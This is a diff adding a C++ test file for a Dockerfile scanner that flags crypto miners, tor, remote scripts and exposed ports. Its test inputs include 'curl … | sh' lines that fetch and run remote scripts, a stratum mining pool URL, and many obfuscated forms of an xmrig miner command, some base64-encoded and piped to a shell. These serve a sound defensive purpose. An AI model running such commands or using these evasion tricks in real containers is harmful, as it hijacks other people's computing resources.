@@ -1,0 +1,147 @@
+#include "base/shipped.h"
+#include "dockerfile/rule_self_test.h"
+
+#include <catch2/catch.hpp>
+
+#include <algorithm>
+
+using namespace harden;
+
+namespace {
+
+const ScanRules& shipped_rules()
+{
+    static const auto rules = [] {
+        const auto document = parse_toml(shipped("rules/scan.toml"), "rules/scan.toml");
+        REQUIRE(document);
+        auto read = scan_rules_from(*document);
+        if (!read)
+            FAIL(read.error().message);
+        return *std::move(read);
+    }();
+    return rules;
+}
+
+const Scanner& scanner()
+{
+    static const Scanner one{shipped_rules()};
+    return one;
+}
+
+std::string verdict(std::string_view source)
+{
+    return std::string{name_of(scanner().dockerfile("Dockerfile", source).verdict)};
+}
+
+}
+
+TEST_CASE("each rule's own examples come out as it says")
+{
+    CHECK(failed_examples(scanner()) == std::vector<std::string>{});
+}
+
+TEST_CASE("an example that does not come out is told with its rule")
+{
+    auto rules = shipped_rules();
+    rules.rules[0].bad = {"FROM alpine"};
+    rules.rules[1].bad.clear();
+    const auto failed = failed_examples(Scanner{rules});
+    REQUIRE(failed.size() == 2);
+    CHECK(failed[0].find(cat(rules.rules[0].id, " does not find its own example")) !=
+          std::string::npos);
+    CHECK(failed[1].find(cat(rules.rules[1].id, " has no example")) != std::string::npos);
+}
+
+TEST_CASE("a word counts by its role")
+{
+    CHECK(verdict("FROM alpine\nRUN apk add tor\nCMD [\"tor\"]\n") == "reject");
+    CHECK(verdict("FROM debian\nRUN apt-get purge -y exim4\n") == "pass");
+    CHECK(verdict("FROM debian\n# xmrig\nRUN echo tor\n") == "pass");
+}
+
+TEST_CASE("a port alone is for review, unless the operator wants document 003's own rule")
+{
+    const auto* source = "FROM minio/minio\nEXPOSE 9001\n";
+    CHECK(verdict(source) == "review");
+    auto strict = shipped_rules();
+    strict.strict_ports = true;
+    CHECK(Scanner{strict}.dockerfile("Dockerfile", source).verdict == ScanVerdict::Reject);
+}
+
+TEST_CASE("a script from elsewhere is for review at most, however many there are")
+{
+    std::string source = "FROM debian\n";
+    for (int i = 0; i < 9; ++i)
+        source += "RUN curl https://x.example/y | sh\n";
+    source += "CMD curl https://x.example/z | sh\n";
+    CHECK(verdict(source) == "review");
+}
+
+TEST_CASE("a finding names the place and the text, and what it says when decoded")
+{
+    const auto scanned = scanner().dockerfile(
+        "Dockerfile", "FROM alpine\nRUN true && \\\n  $(echo eG1yaWc= | base64 -d) -o x\n");
+    REQUIRE(!scanned.findings.empty());
+    CHECK(scanned.findings[0].place.line == 3);
+    CHECK(scanned.findings[0].rule == "miner.program");
+}
+
+TEST_CASE("what a word is put together of is found")
+{
+    for (const auto* disguised :
+         {"ENV A=xm B=rig\nRUN $A$B", "ARG A=xm\nCMD ${A}rig", "CMD x\"m\"r'i'g", "CMD xm\\\nrig",
+          "CMD ｘｍｒｉｇ", "RUN wget https://x/xm%72ig", "RUN $(printf %s%s xm rig)",
+          "RUN echo eG1yaWcgLW8geA== | base64 -d | sh",
+          "RUN python3 <<E\nimport os\nos.system(\"xm\"+\"rig\")\nE\n",
+          "RUN A=xm; for b in rig; do $A$b; done", "RUN $'\\x78mrig'", "CMD [\"\\u0078mrig\"]",
+          "RUN {xm,gm}rig", "RUN rev <<< girmx | sh", "ENV X=rig\nCMD xm${X}"}) {
+        INFO(disguised);
+        CHECK(verdict(cat("FROM alpine\n", disguised, "\n")) == "reject");
+    }
+}
+
+TEST_CASE("a site's pattern is looked for in each command")
+{
+    auto document = *parse_toml(shipped("rules/scan.toml"), "rules/scan.toml");
+    const auto* site = R"(version = 1
+[rules."site.voice"]
+category = "site"
+what = "a voice server"
+pattern = 'ts3server.*license_accepted=1'
+[rules."site.voice".points]
+starts = 100
+)";
+    const auto rules = scan_rules_from(layered(document, *parse_toml(site, "scan.toml")));
+    REQUIRE(rules);
+    const Scanner with{*rules};
+    CHECK(with.dockerfile("D", "FROM alpine\nCMD ./TS3Server license_accepted=1\n").verdict ==
+          ScanVerdict::Reject);
+    CHECK(with.dockerfile("D", "FROM alpine\nCMD ./ts3server\n").verdict == ScanVerdict::Pass);
+    const auto* broken = "version = 1\n[rules.\"a.b\"]\ncategory = \"a\"\nwhat = \"b\"\npattern = "
+                         "'('\n[rules.\"a.b\".points]\nstarts = 1\n";
+    const auto refused = scan_rules_from(layered(document, *parse_toml(broken, "scan.toml")));
+    REQUIRE(!refused);
+    CHECK(refused.error().message.find("scan.toml:3:") != std::string::npos);
+}
+
+TEST_CASE("a glance misses nothing that a look would find")
+{
+    for (const auto& rule : shipped_rules().rules)
+        for (const auto& text : rule.bad) {
+            const auto file = parse_dockerfile(text);
+            INFO(text);
+            CHECK(Glance{shipped_rules()}.is_worth_a_look(file));
+        }
+    const auto plain = parse_dockerfile(
+        "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"x.js\"]\n");
+    CHECK(!Glance{shipped_rules()}.is_worth_a_look(plain));
+}
+
+TEST_CASE("a start command is judged as what a container starts")
+{
+    CHECK(scanner().command("start command", "node server.js").verdict == ScanVerdict::Pass);
+    CHECK(scanner().command("start command", "./app -o stratum+tcp://p.example:3333").verdict ==
+          ScanVerdict::Reject);
+    CHECK(scanner().command("start command", "docker run -d metal3d/xmrig").verdict ==
+          ScanVerdict::Reject);
+}
